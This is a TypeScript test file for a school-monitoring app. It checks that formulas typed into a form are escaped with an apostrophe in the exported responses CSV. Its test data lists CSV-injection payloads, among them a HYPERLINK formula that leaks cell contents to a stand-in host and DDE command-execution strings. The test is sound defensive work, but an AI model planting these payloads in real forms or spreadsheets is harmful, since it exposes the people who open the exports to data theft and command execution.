// Issue 23, item 2: free text typed into a school form reaches the coordinator's spreadsheet as text,
// never as a live formula. Every CSV cell the server writes that starts with "=", "+", "-", "@", a tab
// or a carriage return gets a leading "'" (OWASP); the rest is unchanged.
import request from 'supertest';
import { schoolsCollection } from '../../server/schools/data';
import { clusterSchools } from '../../seeds/schools';
import { validMonitoringAnswers } from '../support/answers';
import { binary, parseCsv } from '../support/files';
import { startMera, type TestMera } from '../support/mera';
import { answerThroughLink, campaignWithLinks } from '../support/results';

const adminToken = 'csv-injection-admin-token-0123456';
const auth = { Authorization: `Bearer ${adminToken}` };
let mera: TestMera;
let schoolIds: string[];
beforeAll(async () => {
  mera = await startMera({ config: { adminToken, minGroupSize: 1 } });
  schoolIds = (await mera.store.collection(schoolsCollection).insertMany(clusterSchools)).map((s) => s._id);
});
afterAll(() => mera.close());

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

test('formulas typed into a school form arrive in responses.csv as text with a leading apostrophe; plain text is unchanged', async () => {
  const { id, tokens } = await campaignWithLinks(mera, 'school-monitoring', schoolIds.slice(0, hostile.length + 1));
  const texts = [...hostile, 'Не хватает учителей: -2 ставки, +1 вакансия'];
  for (const [i, text] of texts.entries())
    await answerThroughLink(mera, tokens.get(schoolIds[i])!, { ...validMonitoringAnswers(), problems_causes: text });
  const res = await request(mera.app).get(`/api/results/campaigns/${id}/responses.csv`).set(auth).buffer(true).parse(binary).expect(200);
  const [headers, ...rows] = parseCsv((res.body as Buffer).toString('utf8').replace(/^\uFEFF/, ''));
  const column = headers.findIndex((h) => /проблем|problems/i.test(h));
  expect(column).toBeGreaterThan(0);
  const cells = rows.map((r) => r[column]);
  expect(cells.sort()).toEqual([...hostile.map((t) => `'${t}`), texts[texts.length - 1]].sort());
  // No cell of the whole file starts a formula.
  for (const row of [headers, ...rows]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});
